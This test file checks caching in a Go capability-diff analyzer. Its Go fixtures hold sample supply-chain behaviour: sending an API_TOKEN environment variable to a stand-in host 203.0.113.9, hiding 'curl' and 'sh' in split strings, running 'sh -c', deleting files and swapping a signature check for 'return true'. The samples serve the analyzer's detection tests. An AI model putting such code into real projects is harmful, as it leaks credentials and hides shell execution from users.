/** What is kept of analyses stands for them where nothing changed, and nowhere else. */
import { createHash } from "node:crypto";
import {
  type AnalyzerOptions,
  analyzeModule,
  type CompareMode,
  callPaths,
  capabilityRows,
  createBuilds,
  flowLines,
  judgeModules,
  type ModuleAnalysis,
  type ModuleSource,
} from "@capdiff/analyzer";
import { rules } from "@capdiff/rules";
import { describe, expect, test } from "vitest";
import { analyzerOptions } from "../../../../test-corpus/runner/analysis.ts";
import { dependenciesOf } from "../../../../test-corpus/runner/dependencies.ts";
import { moduleSource } from "../../../../test-corpus/runner/module-files.ts";
import { parseArchive } from "../../../../test-corpus/runner/txtar.ts";
import { type MemoryCache, memoryCache } from "../memory-cache.ts";

const module = `
-- go.mod --
module example.test/m

go 1.22
-- a.go --
package m

import (
	"net/http"
	"os"
	"os/exec"

	"example.test/dep"
)

var names = map[string]string{"a": "cur" + "l"}

func init() { go poll() }

func poll() {
	for {
		dep.Wait()
	}
}

func Fetch(url string) error {
	resp, err := http.Get(url + os.Getenv("API_TOKEN"))
	if err != nil {
		return err
	}
	return resp.Body.Close()
}

func Run(shell bool) error {
	if shell {
		return dep.Shell("ls" + dep.Suffix)
	}
	return exec.Command(names["a"], dep.Name()).Run()
}

func each[T any](list []T, use func(T)) {
	for _, one := range list {
		use(one)
	}
}

func Clean(list []string) { each(list, func(name string) { os.Remove(name) }) }
-- a.sh --
echo hello
`;

const dependency = `
-- dep.go --
package dep

import (
	"os/exec"
	"time"
)

var Suffix = " -l"

func Wait() { time.Sleep(time.Second) }

func Name() string { return "--ver" + "sion" }

func Shell(line string) error { return run("sh", "-c", line) }

func run(name string, args ...string) error { return exec.Command(name, args...).Run() }
`;

interface Asked {
  readonly cache?: MemoryCache;
  /** Undefined: imports are not looked for. */
  readonly dep?: string | undefined;
  readonly tests?: boolean;
}

async function optionsOf({ cache, tests = false, ...asked }: Asked): Promise<AnalyzerOptions> {
  const { dep } = { dep: dependency, ...asked };
  const dependencies = dep === undefined ? undefined : dependenciesOf(placed(dep));
  return {
    ...(await analyzerOptions({ builds: createBuilds(), tests, dependencies })),
    ...(cache && { cache }),
  };
}

function placed(dep: string) {
  return parseArchive(dep).files.map((file) => ({
    ...file,
    name: `deps/example.test/dep@v1.0.0/${file.name}`,
  }));
}

function source(text: string): ModuleSource {
  return { ...moduleSource(parseArchive(text).files), name: "here" };
}

interface Judging {
  readonly old: string | undefined;
  readonly fresh: string;
  readonly mode?: CompareMode;
  /** Of the fresh version. */
  readonly name?: string;
}

/** All that is said of a version, also after another one. */
async function said(
  { old, fresh, mode = "versions", name = "here" }: Judging,
  asked: Asked,
): Promise<unknown> {
  const options = await optionsOf(asked);
  const before =
    old === undefined ? undefined : await analyzeModule({ ...source(old), name: "old" }, options);
  const after = await analyzeModule({ ...source(fresh), name }, options);
  const judging = { mode: old === undefined ? "single" : mode, rules, digest: sha256, input: 0 } as const;
  return {
    judged: await judgeModules(before, after, judging),
    diagnostics: after.diagnostics,
    counts: after.counts,
    flows: flowLines(after),
    rows: await capabilityRows(after, { input: 0, granularity: "function" }),
    more: await capabilityRows(after, { input: 0, witnesses: 3 }),
    paths: await callPaths(after, { from: "Run", to: "os/exec.Command", limit: 3 }),
  };
}

/** Asks something of each version, under the names that they have when they are compared. */
async function askBefore({ old, fresh }: Judging, asked: Asked): Promise<void> {
  if (old !== undefined) await said({ old: undefined, fresh: old, name: "old" }, asked);
  await said({ old: undefined, fresh }, asked);
}

function sha256(text: string): string {
  return createHash("sha256").update(text).digest("hex");
}

/** Says of all that is kept that there were so many files. */
function mark(cache: MemoryCache): void {
  for (const [key, text] of cache.entries)
    if (key.startsWith("analysis-"))
      cache.entries.set(key, text.replace(/"counts":\{"files":\d+/u, '"counts":{"files":999'));
}

async function analysedAfter(text: string, asked: Asked): Promise<ModuleAnalysis> {
  const cache = memoryCache();
  await said({ old: undefined, fresh: module }, { cache });
  mark(cache);
  return analyzeModule(source(text), await optionsOf({ ...asked, cache }));
}

test("what was analysed before is not analysed again", async () => {
  expect((await analysedAfter(module, {})).counts.files).toBe(999);
});

test("what is set aside has no program of other modules, and says the same", async () => {
  const options = await optionsOf({ cache: memoryCache() });
  const old = await analyzeModule({ ...source(module), name: "old" }, options);
  const aside = await old.kept();
  const whole = old.program.functions.length;
  expect(aside.program.functions.length).toBeLessThan(whole);
  expect(await aside.kept()).toBe(aside);
  const fresh = await analyzeModule({ ...source(module.replace('"ls"', '"id"')), name: "new" }, options);
  const judge = (before: ModuleAnalysis) =>
    judgeModules(before, fresh, { mode: "versions", rules, digest: sha256, input: 0 });
  expect(await judge(aside)).toEqual(await judge(old));
});

test("without a cache nothing is set aside", async () => {
  const old = await analyzeModule(source(module), await optionsOf({}));
  expect(await old.kept()).toBe(old);
});

describe("where something changed it is", () => {
  test.each<readonly [string, string, Asked]>([
    ["code", module.replace('"l"', '"d"'), {}],
    ["another file", module.replace("hello", "good morning"), {}],
    ["the name of a file", module.replace("a.sh", "b.sh"), {}],
    ["go.mod", module.replace("go 1.22", "go 1.23"), {}],
    ["code of another module", module, { dep: dependency.replace("--ver", "--con") }],
    ["another module that is gone", module, { dep: "" }],
    ["what is asked for", module, { tests: true }],
  ])("%s", async (_, text, asked) => {
    expect((await analysedAfter(text, asked)).counts.files).not.toBe(999);
  });
});

test("that imports are missing is told where they were looked for", async () => {
  const cache = memoryCache();
  const judging = { old: undefined, fresh: module };
  await said(judging, { cache, dep: "-- other/other.go --\npackage other\n" });
  expect(await said(judging, { cache, dep: undefined })).toEqual(await said(judging, { dep: undefined }));
});

const edited = module.replace('"--"', '"-"').replace("func Fetch", "func Get").replace("[T any]", "[V any]");
const grown = `${module.replace("echo", "curl")}
-- b.go --
package m

import "os/exec"

func More() { exec.Command("s"+"h", "-c", names["a"]).Run() }
`;

describe("answers are the same as without", () => {
  test.each<readonly [string, Judging]>([
    ["one version", { old: undefined, fresh: grown }],
    ["a version after another", { old: module, fresh: grown }],
    ["a version after a later one", { old: grown, fresh: module }],
    ["an edit", { old: module, fresh: edited }],
    [
      "a copy",
      { old: module, fresh: grown.replace("module example.test/m", "module example.test/n"), mode: "clone" },
    ],
  ])("%s", async (_, judging) => {
    const expected = await said(judging, {});
    const cache = memoryCache();
    // And not what is asked now.
    await askBefore(judging, { cache });
    expect(await said(judging, { cache })).toEqual(expected);
    expect(await said(judging, { cache })).toEqual(expected);
  });
});

/** A module with that code. */
function inModule(imports: readonly string[], code: string): string {
  const list = imports.map((path) => `\t"${path}"\n`).join("");
  return `-- go.mod --\nmodule example.test/m\n\ngo 1.22\n-- a.go --\npackage m\n\nimport (\n${list})\n\n${code}`;
}

const hooks = `
var hooks []func() error

func RunAll() {
	for _, hook := range hooks {
		hook()
	}
}
`;

const others = `
-- dep.go --
package dep

import (
	"crypto/ed25519"
	"math/rand"
	"net/http"
	"os"
	"strings"
)

func Token() []byte {
	b := make([]byte, 16)
	rand.Read(b)
	return b
}

func Fine(key, text, sum []byte) bool { return isFine(key, text, sum) }

func isFine(key, text, sum []byte) bool { return ed25519.Verify(key, text, sum) }

var hosts = []string{"http://203.0.113.9/a", "http://203.0.113.9/b"}

func Send(token string) error {
	_, err := http.Post(hosts[len(os.Args)], "text/plain", strings.NewReader(token))
	return err
}

func Sender(token string) func() error { return func() error { return Send(token) } }

func Named() func() error { return load }

func load() error {
	_, err := http.Get("http://203.0.113.9/x")
	return err
}

func Each[T any](list []T, use func(T)) {
	for _, one := range list {
		use(one)
	}
}

func Remove(name string) { remove(name) }
-- dep_linux.go --
package dep

import "os"

func remove(name string) { os.Remove(name) }
-- dep_windows.go --
package dep

func remove(name string) { println(name) }
`;

const run = "func Run() error { return nil }\n";

describe("what code of other modules says is the same as without", () => {
  test.each<readonly [string, string, string]>([
    [
      "random numbers",
      inModule(["crypto/rand"], "func Token(b []byte) { rand.Read(b) }\n"),
      inModule(["example.test/dep"], "func Token(b []byte) { copy(b, dep.Token()) }\n"),
    ],
    [
      "a check that is dropped",
      inModule(["example.test/dep"], "func Open(k, t, s []byte) bool { return dep.Fine(k, t, s) }\n"),
      inModule(["example.test/dep"], "func Open(k, t, s []byte) bool { return true }\n"),
    ],
    [
      "texts along flows",
      inModule([], run),
      inModule(["example.test/dep", "os"], 'func Run() error { return dep.Send(os.Getenv("API_TOKEN")) }\n'),
    ],
    [
      "who puts closures where others call them",
      inModule([], hooks),
      inModule(
        ["example.test/dep", "os"],
        `${hooks}\nfunc Add() { hooks = append(hooks, dep.Sender(os.Getenv("API_TOKEN"))) }\n`,
      ),
    ],
    [
      "what values of functions are given",
      inModule([], hooks),
      inModule(["example.test/dep"], `${hooks}\nfunc Add() { hooks = append(hooks, dep.Named()) }\n`),
    ],
    [
      "functions of several forms",
      inModule([], run),
      inModule(
        ["example.test/dep"],
        'func Run() error {\n\tdep.Each([]string{"a"}, dep.Remove)\n\tdep.Each([]int{1}, func(int) {})\n\treturn nil\n}\n',
      ),
    ],
  ])("%s", async (_, old, fresh) => {
    const judging = { old, fresh };
    const cache = memoryCache();
    await askBefore(judging, { cache, dep: others });
    const expected = await said(judging, { dep: others });
    expect(await said(judging, { cache, dep: others })).toEqual(expected);
    expect(await said(judging, { cache, dep: others })).toEqual(expected);
  });
});

test("where something of it is gone the module is analysed again", async () => {
  const judging = { old: module, fresh: grown };
  const expected = await said(judging, {});
  for (const gone of ["unit-", "flows-", "exports-", "evaluations-"]) {
    const cache = memoryCache();
    await said(judging, { cache });
    for (const key of cache.entries.keys()) if (key.startsWith(gone)) cache.entries.delete(key);
    expect(await said(judging, { cache })).toEqual(expected);
  }
});
